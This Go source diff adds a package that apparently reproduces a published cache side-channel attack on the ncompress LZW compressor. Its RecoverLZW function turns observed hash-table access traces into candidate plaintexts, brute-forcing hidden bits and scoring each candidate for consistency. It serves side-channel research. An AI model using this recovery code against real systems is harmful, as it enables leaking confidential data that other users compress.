@@ -1,0 +1,92 @@
+package recovery
+
+import (
+	"errors"
+	"fmt"
+)
+
+// EntReplayer replays the LZW compressor's deterministic dictionary-entry
+// sequence: given the plaintext bytes recovered so far, Ent reports the
+// value the compressor's ent variable held when it consumed the next
+// byte. Implemented by the lzw compressor; §IV-C's key observation is
+// that the algorithm's reversibility makes this replay possible.
+type EntReplayer interface {
+	// Ent returns the current dictionary-entry value.
+	Ent() uint32
+	// Push consumes the next recovered plaintext byte, advancing the
+	// dictionary state exactly as the compressor did.
+	Push(c byte)
+}
+
+// ErrTraceTooShort reports an LZW trace with no observations.
+var ErrTraceTooShort = errors.New("recovery: lzw trace too short")
+
+// LZWCandidate is one of the up-to-8 recovered plaintexts (one per guess
+// of the first byte's 3 unobservable bits), with a feasibility score.
+type LZWCandidate struct {
+	Plaintext []byte
+	// FirstByteGuess is the low-3-bit guess that produced this candidate.
+	FirstByteGuess byte
+	// Score counts how often the replayed hash matched the observed trace
+	// exactly; the "most feasible" candidate maximizes it (§IV-C).
+	Score int
+}
+
+// RecoverLZW inverts an ncompress probe trace (§IV-C). The trace holds,
+// per consumed input byte (from the second byte on), the observed value
+// hp >> shiftLost, where hp = (c << 9) ^ ent indexed an 8-byte-entry
+// hash table and the cache channel masks the low shiftLost bits of hp
+// (3 for a 64-byte line over 8-byte entries).
+//
+// newReplayer must create a fresh dictionary replayer per candidate.
+// The first byte's high 5 bits come from the first observation; its low
+// 3 bits are brute-forced over all 8 possibilities, and candidates are
+// scored by replay consistency.
+func RecoverLZW(trace []uint64, shiftLost uint, newReplayer func(first byte) EntReplayer) ([]LZWCandidate, error) {
+	if len(trace) == 0 {
+		return nil, ErrTraceTooShort
+	}
+	// First observation: hp0 = (c1 << 9) ^ ent0 with ent0 = byte 0.
+	// Observed hp0 >> 3 exposes ent0's bits 3-7 (bit 8 of hp0 is clean:
+	// ent0 < 256 and c1's contribution starts at bit 9).
+	first5 := byte((trace[0] << shiftLost) & 0xf8)
+
+	var out []LZWCandidate
+	for guess := byte(0); guess < 8; guess++ {
+		first := first5 | guess
+		rep := newReplayer(first)
+		plain := []byte{first}
+		score := 0
+		for _, obs := range trace {
+			ent := rep.Ent()
+			// c sits at hp bits 9-16; the masked low bits of hp only
+			// affect ent's low bits, so c is exact given ent.
+			hpKnown := (obs << shiftLost) ^ uint64(ent)
+			c := byte(hpKnown >> 9)
+			// Consistency check: recompute the observable part of hp.
+			hp := (uint64(c) << 9) ^ uint64(ent)
+			if hp>>shiftLost == obs {
+				score++
+			}
+			plain = append(plain, c)
+			rep.Push(c)
+		}
+		out = append(out, LZWCandidate{Plaintext: plain, FirstByteGuess: guess, Score: score})
+	}
+	return out, nil
+}
+
+// BestLZW picks the highest-scoring candidate, breaking ties toward the
+// lowest guess.
+func BestLZW(cands []LZWCandidate) (LZWCandidate, error) {
+	if len(cands) == 0 {
+		return LZWCandidate{}, fmt.Errorf("recovery: no lzw candidates")
+	}
+	best := cands[0]
+	for _, c := range cands[1:] {
+		if c.Score > best.Score {
+			best = c
+		}
+	}
+	return best, nil
+}
